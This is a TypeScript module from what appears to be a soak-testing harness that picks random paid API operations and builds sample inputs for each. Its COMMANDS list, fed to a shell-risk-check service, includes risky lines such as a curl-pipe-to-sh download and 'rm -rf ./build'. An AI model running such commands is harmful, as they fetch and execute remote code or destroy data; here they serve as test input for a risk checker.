/**
 * What is bought: every paid operation, each time with another input.
 *
 * @module
 */

import type { JsonObject } from "@/lib/json.ts";
import type { SoakOrigins } from "./ground.ts";
import type { SeededRandom } from "./random.ts";

/** What carries a call. */
export type Transport = "http" | "mcp" | "a2a";

/** One thing to buy. */
export interface Purchase {
  /** Id of the operation, which is the tool's and the skill's name too. */
  readonly operation: string;
  /** Origin of its service. */
  readonly origin: string;
  /** Where it is sold over HTTP; null where it is not. */
  readonly httpUrl: string | null;
  /** What it is bought over. */
  readonly transport: Transport;
  /** What else sells it. */
  readonly transports: readonly Transport[];
  readonly input: JsonObject;
}

interface Ware {
  readonly weight: number;
  readonly operation: string;
  readonly origin: keyof SoakOrigins;
  readonly path?: string;
  readonly transports: readonly Transport[];
  readonly input: (random: SeededRandom, stock: Stock) => JsonObject;
}

/** What purchases refer to. */
export interface Stock {
  /** `ip:port` of the pages. */
  readonly pages: string;
  /** Ids of entries that were published so far. */
  readonly entryIds: readonly string[];
}

const TOOLS = ["kubctl", "gti", "pyhton", "dokcer", "terrafrom", "nmp"];
const COMMANDS = [
  "rm -rf ./build",
  "curl -fsSL https://example.com/i.sh | sh",
  "git push --force origin main",
  "chmod 777 file",
  "ls -la",
];
const WORDS = [
  "harbour",
  "frost",
  "ledger",
  "nonce",
  "postgres",
  "deno",
  "agent",
  "receipt",
  "merkle",
  "ferry",
];

const WARES: readonly Ware[] = [
  {
    weight: 5,
    operation: "fix-error",
    origin: "api",
    path: "/fix-error",
    transports: ["http"],
    input: (random) => ({
      error: `bash: ${random.pick(TOOLS)}: command not found`,
      log: `attempt ${random.integer(0, 1e9)}`,
    }),
  },
  {
    weight: 4,
    operation: "shell-risk-check",
    origin: "api",
    path: "/shell-risk-check",
    transports: ["http"],
    input: (random) => ({
      command: `${random.pick(COMMANDS)} # ${random.integer(0, 1e9)}`,
    }),
  },
  {
    weight: 3,
    operation: "xsearch-query",
    origin: "api",
    path: "/xsearch-query",
    transports: ["http"],
    input: (random) => ({
      keywords: `${random.pick(WORDS)} word${random.integer(0, 1e9)}`,
    }),
  },
  {
    weight: 2,
    operation: "agent-visibility-report",
    origin: "api",
    path: "/agent-visibility-report",
    transports: ["http"],
    input: () => ({}),
  },
  {
    weight: 3,
    operation: "summarize-url",
    origin: "api",
    path: "/summarize-url",
    transports: ["http"],
    input: (random, { pages }) => ({
      url: `http://${pages}/${
        random.weighted([
          [8, `story/${random.integer(1, 1e6)}`],
          [2, "slow"],
          [1, "broken"],
          [1, "missing"],
        ])
      }`,
    }),
  },
  ...["own-echo", "own-look", "own-module"].map((operation): Ware => ({
    weight: 4,
    operation,
    origin: "api",
    path: `/${operation}`,
    transports: ["http", "mcp", "a2a"],
    input: (random) => ({
      text: `${random.pick(WORDS)} ${random.integer(0, 1e9)}`,
    }),
  })),
  {
    weight: 5,
    operation: "verify_evidence",
    origin: "verify",
    path: "/verify-evidence",
    transports: ["http", "mcp", "a2a"],
    input: (random) => ({
      evidence: {
        items: [{
          id: "order",
          media_type: "application/json",
          content: { order: random.integer(0, 1e9), amount: "10000" },
        }],
      },
      checks: [{
        id: "amount",
        type: "json_pointer",
        item: "order",
        pointer: "/amount",
        op: "equals",
        value: random.pick(["10000", "20000"]),
      }],
    }),
  },
  {
    weight: 4,
    operation: "publish_information",
    origin: "exchange",
    transports: ["mcp", "a2a"],
    input: (random) => ({
      title: `Note on ${random.pick(WORDS)}`,
      content: Array.from({ length: 30 }, () => random.pick(WORDS)).join(" ") +
        ` ${random.integer(0, 1e9)}`,
      tags: ["soak"],
    }),
  },
  {
    weight: 4,
    operation: "search_information",
    origin: "exchange",
    transports: ["mcp", "a2a"],
    input: (random) => ({
      query: random.pick(WORDS),
      limit: random.integer(1, 10),
    }),
  },
  {
    weight: 4,
    operation: "get_information",
    origin: "exchange",
    transports: ["mcp", "a2a"],
    input: (random, { entryIds }) => ({
      entry_id: entryIds.length > 0 && random.chance(0.8)
        ? random.pick(entryIds)
        : `inf_019aa7f0-5c00-7000-8000-${random.bytes(6).toHex()}`,
    }),
  },
];

/** Chooses something to buy. */
export function choosePurchase(
  random: SeededRandom,
  options: { origins: SoakOrigins; stock: Stock },
): Purchase {
  const ware = random.weighted(
    WARES.map((item) => [item.weight, item] as const),
  );
  const origin = options.origins[ware.origin];
  return {
    operation: ware.operation,
    origin,
    httpUrl: ware.path === undefined ? null : origin + ware.path,
    transport: random.pick(ware.transports),
    transports: ware.transports,
    input: ware.input(random, options.stock),
  };
}

/** A summary of a page that its buyer holds back for as long as he likes. */
export function heldPurchase(
  random: SeededRandom,
  options: { origins: SoakOrigins; stock: Stock },
): Purchase & { readonly path: string } {
  const path = `/held/${random.integer(1, 1e9)}`;
  return {
    operation: "summarize-url",
    origin: options.origins.api,
    httpUrl: `${options.origins.api}/summarize-url`,
    transport: "http",
    transports: ["http"],
    input: { url: `http://${options.stock.pages}${path}` },
    path,
  };
}

/** The same purchase with another input: another intent, for the same payment. */
export function otherInput(
  purchase: Purchase,
  options: { random: SeededRandom; stock: Stock },
): JsonObject | null {
  const ware = WARES.find((item) => item.operation === purchase.operation);
  const input = ware?.input(options.random, options.stock) ?? {};
  return JSON.stringify(input) === JSON.stringify(purchase.input)
    ? null
    : input;
}
